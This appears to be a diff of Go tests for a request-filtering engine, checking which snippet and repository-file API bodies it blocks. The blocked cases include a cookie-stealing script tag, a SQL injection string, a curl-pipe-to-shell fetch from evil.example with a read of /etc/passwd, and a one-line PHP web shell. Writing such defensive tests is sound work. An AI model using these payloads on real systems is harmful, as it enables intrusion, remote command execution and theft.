@@ -138,7 +138,20 @@ func TestCodeSnippets(t *testing.T) {
 		{map[string]any{"language": "bash", "title": "<script>alert(document.cookie)</script>", "code": "ls"}, true},
 		{map[string]any{"language": "bash", "code": "ls", "name": "x' UNION SELECT password FROM users--"}, true},
 		{map[string]any{"title": "Create refund", "code": "curl https://evil.example/x.sh | sh; cat /etc/passwd"}, true},
+		// A file written through a commit API, named by its path.
+		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "update", "file_path": "scripts/deploy.sh", "content": "#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/cli | sh\ncat /etc/os-release; rm -rf /tmp/build"}}}, false},
+		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "update", "file_path": "Dockerfile.rails", "content": "FROM ruby:3.3\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt/lists/*"}}}, false},
+		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "create", "file_path": "public/x.php", "content": "<?php system($_GET['c']); ?>"}}}, true},
 	} {
 		expectVerdict(t, eng, newReq("POST", "http://app.example.com/api/snippets", "application/json", jsonOf(c.doc)), jsonOf(c.doc), c.block)
 	}
+}
+
+// TestRepositoryFileWrite: a file written through a repository's files
+// API, named by the request path, is quoted code.
+func TestRepositoryFileWrite(t *testing.T) {
+	eng := mustEngine(t, Config{})
+	body := jsonOf(map[string]any{"branch": "main", "content": "FROM node:20\nRUN npm ci && npm run build; rm -rf /root/.npm\nCMD [\"node\", \"server.js\"]"})
+	expectVerdict(t, eng, newReq("POST", "http://api.example.com/api/v4/projects/42/repository/files/docker%2FDockerfile", "application/json", body), "Dockerfile write", false)
+	expectVerdict(t, eng, newReq("POST", "http://api.example.com/api/v4/projects/42/repository/files/web%2Fshell.php", "application/json", jsonOf(map[string]any{"content": "<?php system($_GET['c']); ?>"})), "PHP write", true)
 }
